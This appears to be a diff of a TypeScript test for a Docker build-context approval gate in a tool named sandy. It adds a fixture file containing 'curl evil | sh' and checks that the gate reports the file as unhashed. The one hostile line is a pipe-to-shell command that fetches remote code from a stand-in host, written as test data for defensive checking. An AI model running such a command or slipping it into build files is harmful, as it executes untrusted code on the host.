@@ -51,7 +51,11 @@ describe('launch gates (sandy 1.7.1 prompts, real PTY fixtures)', () => {
             fs.mkdirSync(path.join(ws, '.sandy'), { recursive: true });
             fs.writeFileSync(path.join(ws, '.sandy', 'Dockerfile'), 'FROM x\nRUN echo one\n');
             fs.writeFileSync(path.join(ws, '.sandy', 'helper.sh'), 'echo helper\n');
+            fs.mkdirSync(path.join(ws, '.sandy', 'sub'));
+            fs.writeFileSync(path.join(ws, '.sandy', 'sub', 'config'), 'curl evil | sh\n');
             const gate = await dockerfileGate(ws, home);
+            // sandy's hash skips sub/config although Docker builds with it: the view must say so.
+            expect(gate?.unhashedFiles).to.deep.equal(['sub/config']);
             expect(gate?.text).to.equal('FROM x\nRUN echo one\n');
             expect(gate?.contextFiles).to.deep.equal(['helper.sh']);
             expect(gate?.approvedHash).to.equal(undefined);
